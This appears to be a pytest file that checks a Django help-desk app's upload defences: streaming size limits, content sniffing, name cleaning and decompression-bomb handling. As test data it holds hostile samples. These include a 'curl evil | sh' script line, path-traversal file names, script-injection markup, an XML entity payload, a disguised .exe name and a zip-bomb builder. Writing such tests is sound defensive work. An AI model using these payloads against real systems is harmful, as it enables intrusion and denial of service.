"""Uploads: size cut off while streaming, type from the content, safe names, no bombs.

The limits are tested through the two ways files arrive (the wizard's form, `POST /uploads`)
and once over a real HTTP connection, where the body streams in chunks.
"""

from __future__ import annotations

import http.client
import io
import json
import re
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import MemoryFileUploadHandler, TemporaryFileUploadHandler
from django.test import Client

from supportdesk.cases.actions import add_attachments
from supportdesk.cases.models import Attachment, Upload
from supportdesk.cases.services import SubmissionInvalid, create_upload
from supportdesk.cases.sniffing import MAX_ZIP_ENTRIES
from supportdesk.cases.uploads import AttachmentLimitHandler, clean_file_name
from tests.api.conftest import TokenClient, make_token
from tests.web.conftest import (
    COMMON,
    PRIVATE_OFFER_ANSWERS,
    request_type,
    step,
    sub_request,
    walk_to_details,
)

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
UPLOADS_URL = "/api/v1/uploads"


# ---- files of every kind, made here ----------------------------------------------------------


def png(width: int = 1, height: int = 1) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    ihdr_chunk = struct.pack(">I", 13) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR"))
    idat = zlib.compress(b"\x00" * 8)
    return b"\x89PNG\r\n\x1a\n" + ihdr_chunk + struct.pack(">I", len(idat)) + b"IDAT" + idat


def jpeg(width: int = 1, height: int = 1) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"


def gif(width: int = 1, height: int = 1) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x00\x00\x00;"


def webp(width: int = 1, height: int = 1) -> bytes:
    body = b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4
    body += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def zipped(members: dict[str, bytes], *, first: tuple[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1], compress_type=zipfile.ZIP_STORED)
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def office(main_part: str) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", main_part: b"<doc/>"})


def odf(kind: str) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped({"content.xml": b"<office:document-content/>"}, first=("mimetype", mimetype))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50) + b"PE\x00\x00"


def upload(user: Any, name: str, content: bytes, claimed: str = "application/pdf") -> Upload:
    return create_upload(user, file=SimpleUploadedFile(name, content, claimed))


def refusal(user: Any, name: str, content: bytes) -> str:
    with pytest.raises(SubmissionInvalid) as caught:
        upload(user, name, content)
    [message] = caught.value.errors["file"]
    return message


# ---- counting what the upload handlers hold ----------------------------------------------------

HELD: dict[str, Any] = {}
HELD_MODULE = __name__


class RecordingLimitHandler(AttachmentLimitHandler):
    def __init__(self, request: Any = None) -> None:
        super().__init__(request)
        HELD.setdefault("limit_handlers", []).append(self)


class CountingMemoryHandler(MemoryFileUploadHandler):
    def receive_data_chunk(self, raw_data: bytes, start: int) -> bytes | None:
        HELD["stored"] = max(HELD.get("stored", 0), start + len(raw_data))
        return super().receive_data_chunk(raw_data, start)


class CountingTemporaryHandler(TemporaryFileUploadHandler):
    def receive_data_chunk(self, raw_data: bytes, start: int) -> bytes | None:
        HELD["stored"] = max(HELD.get("stored", 0), start + len(raw_data))
        return super().receive_data_chunk(raw_data, start)


@pytest.fixture
def held(settings) -> dict[str, Any]:
    """Uploads stream through counting handlers; limits of 1 MB a file, 8 MB a request."""
    HELD.clear()
    settings.ATTACHMENT_MAX_BYTES = 1 * MB
    settings.ATTACHMENT_MAX_REQUEST_BYTES = 8 * MB
    settings.FILE_UPLOAD_HANDLERS = [
        f"{HELD_MODULE}.RecordingLimitHandler",
        f"{HELD_MODULE}.CountingMemoryHandler",
        f"{HELD_MODULE}.CountingTemporaryHandler",
    ]
    return HELD


def stored_files(settings) -> list[Path]:
    return [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]


@pytest.fixture
def rep_api(rep) -> TokenClient:
    return TokenClient(make_token(rep))


@pytest.fixture
def rep_web(rep) -> Client:
    client = Client()
    client.force_login(rep)
    return client


def wizard_details(client: Client, opportunity: Any) -> Any:
    rt = request_type("Deal Desk", "Quote Help")
    return walk_to_details(client, opportunity, rt, sub_request(rt, "Private Offer"))


# ---- size: cut off while the body streams in ---------------------------------------------------


def test_an_api_file_over_the_limit_is_cut_off_at_the_limit_and_named(rep_api, held, settings):
    big = SimpleUploadedFile("big.pdf", b"%PDF-1.7\n" + bytes(3 * MB), "application/pdf")
    response = rep_api.post(UPLOADS_URL, {"file": big})
    assert response.status_code == 422
    assert response.json()["errors"] == [
        {"field": "file", "message": "“big.pdf” is larger than the 1 MB limit."}
    ]
    [handler] = held["limit_handlers"]
    assert handler.received == 3 * MB + 9  # the whole file went past…
    assert handler.most_held <= 1 * MB and held["stored"] <= 1 * MB  # …and was never kept
    assert not Upload.objects.exists() and not stored_files(settings)


@pytest.mark.parametrize(
    ("big_size", "big_first"),
    [(2 * MB, True), (2 * MB, False), (6 * MB, False)],  # in memory; after a kept file; on disk
)
def test_a_wizard_file_over_the_limit_is_named_and_the_rest_of_the_form_is_kept(
    rep_web, opportunity, held, big_size, big_first
):
    draft = wizard_details(rep_web, opportunity)
    big = SimpleUploadedFile("scan.pdf", b"%PDF-1.7\n" + bytes(big_size), "application/pdf")
    small = SimpleUploadedFile("brief.pdf", b"%PDF-1.7 brief", "application/pdf")
    files = [big, small] if big_first else [small, big]
    # The files come first in the body: the fields after them must still arrive.
    data = {"attachments": files, **PRIVATE_OFFER_ANSWERS, **COMMON, "action": "next"}
    response = rep_web.post(step(draft, "details"), data)
    page = response.content.decode()
    assert response.status_code == 200
    assert "Attachments: “scan.pdf” is larger than the 1 MB limit." in page
    [kept] = draft.uploads.all()
    assert kept.name == "brief.pdf" and kept.file.read() == b"%PDF-1.7 brief"
    assert "Please build the **AWS** private offer." in page
    assert held["stored"] <= 1 * MB


def test_a_request_over_the_total_limit_is_refused_before_its_body_is_read(
    rep_api, rep_web, opportunity, held, settings
):
    settings.ATTACHMENT_MAX_REQUEST_BYTES = 1 * MB
    settings.ATTACHMENT_MAX_BYTES = 2 * MB
    files = [SimpleUploadedFile(f"part{i}.pdf", b"%PDF" + bytes(MB // 2)) for i in range(3)]
    response = rep_api.post(UPLOADS_URL, {"file": files})
    assert response.status_code == 413
    assert response.json()["detail"] == "The files sent together are larger than the 1 MB limit."
    assert "limit_handlers" not in held  # nobody started to read the body
    draft = wizard_details(rep_web, opportunity)
    held.clear()
    for file in files:
        file.seek(0)
    page = rep_web.post(step(draft, "details"), {"attachments": files, "action": "next"})
    assert page.status_code == 413
    assert "larger than the 1 MB limit" in page.content.decode()
    assert "limit_handlers" not in held  # nobody started to read the body
    assert not Upload.objects.exists() and not draft.uploads.exists()


def test_the_handler_itself_refuses_a_request_over_the_total_limit(settings):
    """Without the middleware (another entry point), the parser's first handler refuses."""
    settings.ATTACHMENT_MAX_REQUEST_BYTES = 1 * MB
    handler = AttachmentLimitHandler()
    with pytest.raises(Exception, match="larger than the 1 MB limit") as caught:
        handler.handle_raw_input(io.BytesIO(), {}, 2 * MB, b"x")
    assert caught.type.__name__ == "RequestTooLarge"
    assert handler.handle_raw_input(io.BytesIO(), {}, 1 * MB, b"x") is None


def test_an_oversized_json_body_is_a_413_problem(rep_api, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    response = rep_api.post_json("/api/v1/cases", {"description": "x" * 4096})
    assert response.status_code == 413
    assert response["Content-Type"] == "application/problem+json"


def body_chunks(boundary: str, size: int) -> tuple[int, Iterator[bytes]]:
    head = (
        f"--{boundary}\r\n"
        'Content-Disposition: form-data; name="file"; filename="huge.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode()
    tail = f"\r\n--{boundary}--\r\n".encode()
    chunk = bytes(64 * 1024)

    def chunks() -> Iterator[bytes]:
        yield head + b"%PDF-1.7\n"
        for _ in range(size // len(chunk)):
            yield chunk
        yield tail

    return len(head) + 9 + size // len(chunk) * len(chunk) + len(tail), chunks()


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_a_24_mb_body_over_http_is_refused_with_memory_and_disk_under_the_limit(
    live_server, rep, held, settings
):
    settings.ATTACHMENT_MAX_REQUEST_BYTES = 100 * MB  # streams in; only the file limit applies
    token = make_token(rep)
    address = urlsplit(live_server.url)
    headers = {"Authorization": f"Bearer {token}"}
    warm = TokenClient(token).post(UPLOADS_URL, {"file": SimpleUploadedFile("a.pdf", b"%PDF a")})
    assert warm.status_code == 201  # the first request's imports are not counted below
    HELD.clear()
    length, chunks = body_chunks("b0undary", 24 * MB)
    headers |= {"Content-Type": "multipart/form-data; boundary=b0undary"}
    headers |= {"Content-Length": str(length)}
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=60)
    tracemalloc.start()
    try:
        connection.request("POST", UPLOADS_URL, body=chunks, headers=headers)
        response = connection.getresponse()
        body = response.read().decode()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        connection.close()
    assert response.status == 422
    [error] = json.loads(body)["errors"]
    assert error == {"field": "file", "message": "“huge.pdf” is larger than the 1 MB limit."}
    [handler] = held["limit_handlers"]
    assert handler.received > 24 * MB and held["stored"] <= 1 * MB
    assert peak < 4 * MB, f"peak {peak / MB:.2f} MB"
    assert Upload.objects.count() == 1  # only the warm-up


# ---- type: from the content ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "stored_type"),
    [
        ("scan.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "application/pdf"),
        ("shot.png", png(800, 600), "image/png"),
        ("photo.jpg", jpeg(4000, 3000), "image/jpeg"),
        ("photo.jpeg", jpeg(), "image/jpeg"),
        ("anim.gif", gif(), "image/gif"),
        ("pic.webp", webp(), "image/webp"),
        ("notes.txt", "Grüße, ok\n".encode(), "text/plain"),
        ("export.csv", "Name;Betrag\nMüller;12,50\n".encode("cp1252"), "text/csv"),
        ("excel.csv", "\ufeffa,b\n1,2\n".encode("utf-16"), "text/csv"),
        ("readme.md", b"# Title\n\nSome *text*, and `<code>`.\n", "text/markdown"),
        ("data.json", b'{"a": [1, 2]}', "application/json"),
        ("order.xml", b'<?xml version="1.0"?><order id="1"/>', "application/xml"),
        (
            "mail.eml",
            b"From: a@example.com\r\nSubject: hi\r\n\r\n<html>ok</html>",
            "message/rfc822",
        ),
        ("old.doc", OLE, "application/msword"),
        ("old.xls", OLE, "application/vnd.ms-excel"),
        ("mail.msg", OLE, "application/vnd.ms-outlook"),
        ("memo.docx", office("word/document.xml"), "application/vnd.openxmlformats-"),
        ("book.xlsx", office("xl/workbook.xml"), "application/vnd.openxmlformats-"),
        ("deck.pptx", office("ppt/presentation.xml"), "application/vnd.openxmlformats-"),
        ("text.odt", odf("text"), "application/vnd.oasis.opendocument.text"),
        ("sheet.ods", odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
        ("bundle.zip", zipped({"a.txt": b"a"}), "application/zip"),
        ("memo-as.zip", office("word/document.xml"), "application/zip"),
    ],
)
def test_files_whose_content_matches_their_name_are_kept_with_the_sniffed_type(
    rep, name, content, stored_type
):
    kept = upload(rep, name, content, claimed="text/html")  # the client's claim is ignored
    assert kept.content_type.startswith(stored_type)


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("report.pdf", WINDOWS_PROGRAM, "“report.pdf” is a Windows program; programs and"),
        ("notes.txt", b"\x7fELF\x02\x01\x01" + bytes(64), "is a Linux program"),
        ("run.txt", b"#!/bin/sh\ncurl evil | sh\n", "is a script"),
        ("scan.pdf", png(), "is named .pdf but its content is a PNG image, not a PDF document."),
        ("photo.png", jpeg(), "is named .png but its content is a JPEG image, not a PNG image."),
        ("memo.docx", zipped({"a.txt": b"a"}), "content is a zip archive, not a Word document"),
        ("book.xlsx", office("word/document.xml"), "is a Word document, not an Excel workbook"),
        ("old.doc", office("word/document.xml"), "not an Office 97–2003 or Outlook file"),
        ("data.csv", b"a,b\n\x00\x01\x02", "its content is binary data, not text"),
        ("page.txt", b"\n<!DOCTYPE html><script>alert(1)</script>", "web page or script markup"),
        ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "markup"),
        ("feed.xml", b'<?xml version="1.0"?>\n<svg><script>alert(1)</script></svg>', "markup"),
        (
            "order.xml",
            b'<?xml version="1.0"?><o><x:script xmlns:x="http://www.w3.org/1999/xhtml"/></o>',
            "“order.xml” embeds script, web page or entity markup",
        ),
        ("lol.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa">]><l>&a;</l>', "embeds"),
        ("cut.pdf", b"MZ", "its content is text, not a PDF document"),
    ],
)
def test_files_whose_content_is_dangerous_or_not_what_the_name_says_are_refused(
    rep, name, content, problem
):
    assert problem in refusal(rep, name, content)
    assert not Upload.objects.exists()


def test_the_api_stores_the_sniffed_type_and_names_a_mismatch(rep_api):
    picture = SimpleUploadedFile("shot.png", png(), "text/html")
    assert rep_api.post(UPLOADS_URL, {"file": picture}).json()["content_type"] == "image/png"
    fake = SimpleUploadedFile("invoice.pdf", b"<html><script>x()</script>", "application/pdf")
    response = rep_api.post(UPLOADS_URL, {"file": fake})
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert error == {
        "field": "file",
        "message": "“invoice.pdf” contains web page or script markup; it is not accepted.",
    }


def test_the_wizard_names_a_file_whose_content_does_not_match(rep_web, opportunity):
    draft = wizard_details(rep_web, opportunity)
    fake = SimpleUploadedFile("po.pdf", WINDOWS_PROGRAM, "application/pdf")
    data = {**PRIVATE_OFFER_ANSWERS, **COMMON, "attachments": [fake], "action": "next"}
    page = rep_web.post(step(draft, "details"), data).content.decode()
    assert "Attachments: “po.pdf” is a Windows program; programs and scripts are not" in page
    assert not draft.uploads.exists()


# ---- names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\ann\\Desktop\\q3 report.pdf", "q3 report.pdf"),
        ("..\\..\\web.config.txt", "web.config.txt"),
        ("...hidden.pdf", "hidden.pdf"),
        ("in\x00voice\r\n\x1b[31m.pdf", "invoice[31m.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # right-to-left override: "invoiceexe.pdf"
        ("zero\u200bwidth\ufeff.pdf", "zerowidth.pdf"),
        ("  spaced\u00a0 out  .pdf ", "spaced out.pdf"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
        ("../", "file"),
        ("Angebot – März.pdf", "Angebot – März.pdf"),
    ],
)
def test_file_names_are_cleaned(raw, clean):
    assert clean_file_name(raw) == clean


def test_a_right_to_left_override_cannot_disguise_a_program(rep):
    assert "files of this type are not accepted" in refusal(rep, "photo\u202egpj.exe", b"MZ")


def test_the_storage_key_is_generated_whatever_the_name(rep, settings):
    kept = upload(rep, "../../../settings.py\\..\\x.pdf", b"%PDF-1.7 x")
    assert kept.name == "x.pdf"
    assert re.fullmatch(r"attachments/\d{4}/\d{2}/[0-9a-f]{32}\.pdf", kept.file.name)
    assert Path(kept.file.path).resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())


# ---- serving: download unless a sniffed picture, never the client's type -----------------------


def attach(case: Any, user: Any, name: str, content: bytes) -> Attachment:
    [made] = add_attachments(case, actor=user, upload_ids=[str(upload(user, name, content).id)])
    return made


def test_pictures_sniffed_as_such_show_inline_and_everything_else_downloads(
    rep_web, rep, quote_case
):
    picture = attach(quote_case, rep, "shot.png", png())
    inline = rep_web.get(picture.get_absolute_url(), {"inline": "1"})
    assert inline["Content-Type"] == "image/png"
    assert inline["Content-Disposition"] == 'inline; filename="shot.png"'
    notes = attach(quote_case, rep, "notes.txt", b"<b>plain</b> notes")
    served = rep_web.get(notes.get_absolute_url(), {"inline": "1"})
    assert served["Content-Type"] == "text/plain"
    assert served["Content-Disposition"] == 'attachment; filename="notes.txt"'
    assert served["X-Content-Type-Options"] == "nosniff"


def test_a_stored_type_that_was_never_sniffed_is_served_as_opaque_data(rep_web, rep, quote_case):
    picture = attach(quote_case, rep, "shot.png", png())
    Attachment.objects.filter(pk=picture.pk).update(content_type="text/html")  # an older row
    served = rep_web.get(picture.get_absolute_url(), {"inline": "1"})
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"] == 'attachment; filename="shot.png"'
    assert "?inline=1" not in rep_web.get(quote_case.get_absolute_url()).content.decode()


def test_the_download_header_encodes_any_name(rep_web, rep_api, rep, quote_case):
    odd = attach(quote_case, rep, 'Angebot "März".pdf', b"%PDF-1.7")
    served = rep_web.get(odd.get_absolute_url())
    assert served["Content-Disposition"] == (
        "attachment; filename*=utf-8''Angebot%20%22M%C3%A4rz%22.pdf"
    )
    quoted = attach(quote_case, rep, 'say "hi".pdf', b"%PDF-1.7")
    api_url = f"/api/v1/cases/{quote_case.number}/attachments/{quoted.pk}/download"
    download = rep_api.get(api_url)
    assert download["Content-Disposition"] == 'attachment; filename="say \\"hi\\".pdf"'
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"


# ---- bombs: nothing is ever decompressed or decoded --------------------------------------------


def zip_bomb_docx(zeros: int) -> bytes:
    """A valid .docx whose document part inflates to `zeros` bytes (written in 1 MB steps)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(zeros // MB):
                part.write(bytes(MB))
    return buffer.getvalue()


@pytest.fixture
def warm_api(rep_api) -> TokenClient:
    """The API client after one refused upload: the first request's imports are not traced."""
    assert rep_api.post(UPLOADS_URL, {"file": SimpleUploadedFile("e.pdf", b"")}).status_code == 422
    return rep_api


def traced_peak(call: Any) -> tuple[Any, int]:
    tracemalloc.start()
    try:
        result = call()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_zip_bomb_docx_is_judged_by_its_directory_without_being_inflated(warm_api):
    bomb = zip_bomb_docx(200 * MB)
    assert len(bomb) < 1 * MB  # 200 MB of zeros inflated
    file = SimpleUploadedFile("bomb.docx", bomb, "application/octet-stream")
    response, peak = traced_peak(lambda: warm_api.post(UPLOADS_URL, {"file": file}))
    assert response.status_code == 201  # a well-formed document: accepted, stored as sent
    assert response.json()["content_type"].endswith("wordprocessingml.document")
    assert peak < 4 * MB, f"peak {peak / MB:.2f} MB"


def test_a_zip_with_more_entries_than_are_read_is_not_taken_for_a_document(rep):
    names = {f"f{i}.txt": b"" for i in range(MAX_ZIP_ENTRIES + 10)}
    crowded = zipped(names | {"[Content_Types].xml": b"", "word/document.xml": b""})
    problem, peak = traced_peak(lambda: refusal(rep, "crowded.docx", crowded))
    assert "content is a zip archive, not a Word document" in problem
    assert peak < 4 * MB, f"peak {peak / MB:.2f} MB"


@pytest.mark.parametrize(
    ("name", "content", "declared"),
    [
        ("bomb.png", png(100_000, 100_000), "100000 × 100000"),
        ("bomb.jpg", jpeg(65_000, 65_000), "65000 × 65000"),
        ("bomb.gif", gif(65_535, 65_535), "65535 × 65535"),
        ("bomb.webp", webp(16_000, 16_000), "16000 × 16000"),
    ],
)
def test_a_picture_declaring_a_huge_size_is_refused_from_its_header(
    warm_api, name, content, declared
):
    file = SimpleUploadedFile(name, content, "image/png")
    response, peak = traced_peak(lambda: warm_api.post(UPLOADS_URL, {"file": file}))
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert f"says it is {declared} pixels; pictures of more than 89 megapixels" in error["message"]
    assert peak < 4 * MB, f"peak {peak / MB:.2f} MB"
    assert not Upload.objects.exists()


def test_a_picture_whose_size_cannot_be_read_is_kept_only_as_a_download(rep):
    kept = upload(rep, "odd.png", b"\x89PNG\r\n\x1a\n" + bytes(32))
    assert kept.content_type == "application/octet-stream"
